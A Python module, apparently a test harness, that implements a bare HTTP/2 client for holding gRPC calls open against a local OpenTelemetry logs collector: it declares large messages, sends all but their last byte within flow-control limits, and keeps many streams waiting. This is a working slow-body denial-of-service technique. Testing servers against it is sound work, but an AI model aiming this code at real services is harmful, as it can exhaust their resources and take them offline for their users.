"""As much of HTTP/2 (RFC 9113) as an attacker needs who keeps to flow control:
gRPC calls whose messages never end."""

from __future__ import annotations

import select
import socket
import struct

_SIZE = 16_384  # SETTINGS_MAX_FRAME_SIZE, at the beginning
_WINDOW = 65_535
_PATH = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Section 4.1."""
    return (
        struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
    )


def _literal(name: bytes, value: bytes) -> bytes:
    """RFC 7541, section 6.2.2: without indexing and without Huffman's code."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


_HEADS = b"".join(
    _literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", _PATH),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


class Holder:
    """One connection with `streams` calls that announce `size` bytes each and send as many of them
    as they may, but one."""

    def __init__(self, port: int, streams: int, size: int) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.initial, self.connection_window = _WINDOW, _WINDOW
        self.windows = {2 * n + 1: _WINDOW for n in range(streams)}
        self.left = dict.fromkeys(self.windows, size + 4)
        self._buffer, self._size = b"", size

    def hold(self, quiet_seconds: float) -> None:
        """Sends until nothing more may be sent for so long, or the peer closes."""
        try:
            self.socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            for stream in self.windows:
                self.socket.sendall(frame(1, 4, stream, _HEADS))
            while self._send() or self._hear(quiet_seconds):
                self._hear(0)
        except OSError:
            pass

    def _send(self) -> bool:
        sent = False
        for stream in list(self.left):
            most = min(_SIZE, self.left[stream], self.windows[stream], self.connection_window)
            if most <= 0:
                continue
            first = self.left[stream] == self._size + 4
            body = (
                (b"\x00" + struct.pack(">I", self._size) + bytes(most))[:most]
                if first
                else bytes(most)
            )
            self.socket.sendall(frame(0, 0, stream, body))
            self.left[stream] -= most
            self.windows[stream] -= most
            self.connection_window -= most
            sent = True
        return sent

    def _hear(self, seconds: float) -> bool:
        """False when nothing came."""
        if not select.select([self.socket], [], [], seconds)[0]:
            return False
        data = self.socket.recv(1 << 16)
        if not data:
            return False
        self._buffer += data
        while len(self._buffer) >= 9:
            size = int.from_bytes(self._buffer[:3], "big")
            if len(self._buffer) < 9 + size:
                break
            kind, flags, stream = (
                self._buffer[3],
                self._buffer[4],
                int.from_bytes(self._buffer[5:9], "big"),
            )
            body, self._buffer = self._buffer[9 : 9 + size], self._buffer[9 + size :]
            self._take(kind, flags, stream, body)
        return True

    def _take(self, kind: int, flags: int, stream: int, body: bytes) -> None:
        if kind == 8:  # WINDOW_UPDATE
            grown = int.from_bytes(body, "big")
            if stream:
                self.windows[stream] = self.windows.get(stream, 0) + grown
            else:
                self.connection_window += grown
        elif kind == 4 and not flags & 1:  # SETTINGS
            for at in range(0, len(body), 6):
                name, value = struct.unpack_from(">HI", body, at)
                if name == 4:
                    self.windows = {s: w + value - self.initial for s, w in self.windows.items()}
                    self.initial = value
            self.socket.sendall(frame(4, 1, 0, b""))
        elif kind == 6 and not flags & 1:  # PING
            self.socket.sendall(frame(6, 1, 0, body))
        elif kind == 3 or (kind == 1 and flags & 1):  # the call is over
            self.left.pop(stream, None)
